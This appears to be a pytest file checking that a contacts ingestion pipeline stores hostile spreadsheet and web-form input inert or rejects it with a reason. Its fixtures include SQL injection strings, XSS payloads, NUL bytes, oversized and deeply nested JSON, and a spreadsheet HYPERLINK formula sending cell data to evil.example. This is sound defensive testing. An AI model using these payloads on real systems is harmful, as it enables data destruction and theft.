"""Hostile input through the whole pipeline, on SQLite and PostgreSQL: stored inert, or rejected
with a reason when beyond the limits; never executed, never breaking its batch."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

from sqlalchemy import Engine, select, text

from flows import stages
from flows.settings import load_settings
from tests.crashkit import snapshot
from warehouse import db
from warehouse.marts import relation
from warehouse.schema import raw_contacts, rejects

INJECTION = "Robert'); DROP TABLE leads;--"
COMPANY_INJECTION = "x'; DELETE FROM contacts; --"
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
SCRIPT = "<script>alert(document.cookie)</script>"
MEGABYTE = 1024 * 1024

SHEET = [
    ["Ad Soyad", "E-posta", "Telefon", "Firma", "Not"],
    ["Ayşe Normal", "ayse@normal.com.tr", "0532 111 22 33", "Normal A.Ş.", "ok"],
    [INJECTION, "bobby@tables.com", "", COMPANY_INJECTION, "1; SELECT pg_sleep(5)"],
    [FORMULA, "formula@evil.com", "+1 212 555 0100", "=1+2", "@SUM(A1:A9)"],
    [SCRIPT, "xss@evil.com", "", "<img src=x onerror=alert(1)>", "<b>bold</b>"],
    ["Nul\x00Byte", "nul\x00@bytes.com", "", "Nul\x00Co", "a\x00b"],
    ["Big Field", "big@field.com", "", "Big Co", "x" * MEGABYTE],
    ["Mehmet Sonra", "mehmet@sonra.com.tr", "", "Sonra Ltd", "the row after the big one"],
]


def _nested(depth: int) -> str:
    return '{"n":' * depth + "1" + "}" * depth


def _write_sources(folder: Path, url: str) -> Path:
    with open(folder / "hostile.csv", "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, delimiter=";").writerows(SHEET)
    subs: list[dict[str, Any]] = [
        {
            "id": "h1",
            "submitted_at": "2026-10-02T09:15:00Z",
            "fields": {
                "name": INJECTION,
                "email": "inj@forms.com",
                "company": COMPANY_INJECTION,
                "message": SCRIPT,
            },
        },
        {
            "id": "h2",
            "submitted_at": "2026-10-02T09:16:00Z",
            "fields": {"name": "Nul\u0000Name", "email": "nul2@forms.com", "message": "a\u0000b"},
        },
        {
            "id": "h3",
            "submitted_at": "2026-10-02T09:17:00Z",
            "fields": {"name": "Big Form", "email": "bigform@forms.com", "message": "y" * MEGABYTE},
        },
        {
            "id": "h5",
            "submitted_at": "2026-10-02T09:18:00Z",
            "fields": {"name": "Fine Person", "email": "fine@forms.com"},
        },
    ]
    body = json.dumps({"submissions": subs})
    # nested 100 levels deep: parseable, but beyond the 32 levels a record may have
    deep = '{"id": "h4", "submitted_at": "2026-10-02T09:19:00Z", "fields": {"name": "Deep", "email": "deep@forms.com", "extra": %s}}'
    (folder / "forms.json").write_text(body[:-2] + ", " + deep % _nested(100) + "]}")
    # nested 100 000 levels deep, beyond what the parser can take at all, next to a good one
    good = (
        '{"id": "b1", "submitted_at": "2026-10-02T09:20:00Z", "fields": {"email": "ok@bomb.com"}}'
    )
    (folder / "bomb.json").write_text('{"submissions": [' + good + ", " + _nested(100_000) + "]}")
    cfg = folder / "lf.yaml"
    cfg.write_text(
        f"warehouse: {{url: '{url}'}}\nquality: {{docs_dir: '{folder}/docs'}}\nsources:\n"
        "  - {name: sheet, kind: spreadsheet, path: hostile.csv}\n"
        "  - {name: forms, kind: webform, path: forms.json}\n"
        "  - {name: bomb, kind: webform, path: bomb.json}\n"
    )
    return cfg


def _run(engine: Engine, cfg: Path, run_id: str) -> None:
    settings = load_settings(cfg)
    for source in settings.sources:
        stages.extract_and_land(engine, source, run_id)
    stages.process_pending(engine, settings, run_id)


def test_hostile_input_is_stored_inert_or_rejected_with_a_reason(
    tmp_path: Path, warehouse_url: str
) -> None:
    cfg = _write_sources(tmp_path, warehouse_url)
    engine = db.make_engine(warehouse_url)
    db.upgrade(engine)
    _run(engine, cfg, "run_1")

    with engine.connect() as conn:
        emails = {r[0] for r in conn.execute(text("select email from contacts"))}
        payloads = [json.loads(r.payload) for r in conn.execute(select(raw_contacts))]
        reasons = {
            (r.source, r.code): r.message
            for r in conn.execute(select(rejects))
            if r.stage == "extract"
        }
        # every table is still there and still answers
        leads = conn.execute(text("select count(*) from leads")).scalar_one()
        leads_mart = relation(conn.dialect.name, "mart_leads_current")
        marts = conn.execute(text(f"select count(*) from {leads_mart}")).scalar_one()  # noqa: S608 - a mart name constant
        companies = {r[0] for r in conn.execute(text("select company from contacts"))}
    # Every identifiable row landed, the ones around the huge and the deep ones included.
    assert emails == {
        "ayse@normal.com.tr",
        "bobby@tables.com",
        "formula@evil.com",
        "xss@evil.com",
        "nul@bytes.com",
        "mehmet@sonra.com.tr",
        "inj@forms.com",
        "nul2@forms.com",
        "fine@forms.com",
        "ok@bomb.com",
    }
    # the sheet's and the form's "Robert'); DROP TABLE leads;--" write from two mailboxes at two
    # domains, but with the same rare full name and the same company: one person, as the model
    # weighs it (a second mailbox is common, that name and that company together are not)
    assert leads == marts == 9
    # Stored as given, as data: the raw payloads keep the exact text, the contacts keep it too.
    flat = json.dumps(payloads, ensure_ascii=False)
    for hostile in (INJECTION, COMPANY_INJECTION, FORMULA, SCRIPT, "<img src=x onerror=alert(1)>"):
        assert json.dumps(hostile, ensure_ascii=False)[1:-1] in flat
    assert COMPANY_INJECTION in companies and "<img src=x onerror=alert(1)>" in companies
    assert "NulCo" in companies  # a NUL byte is no character of a company's name
    # Beyond the limits: rejected, and the reason says which field and which limit.
    assert reasons[("sheet", "too_large")] == f"Not has {MEGABYTE} characters, limit 262144"
    assert reasons[("forms", "too_large")] in {
        f"fields.message has {MEGABYTE} characters, limit 262144",
        "fields.extra.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n.n is nested deeper than 32 levels",
    }
    with engine.connect() as conn:
        forms_too_large = conn.execute(
            text("select count(*) from rejects where source = 'forms' and code = 'too_large'")
        ).scalar_one()
    assert forms_too_large == 2
    assert reasons[("bomb", "malformed_json")] == "nested too deeply to parse"

    # A second run changes nothing.
    before = snapshot(warehouse_url)
    _run(engine, cfg, "run_2")
    assert snapshot(warehouse_url) == before
    engine.dispose()
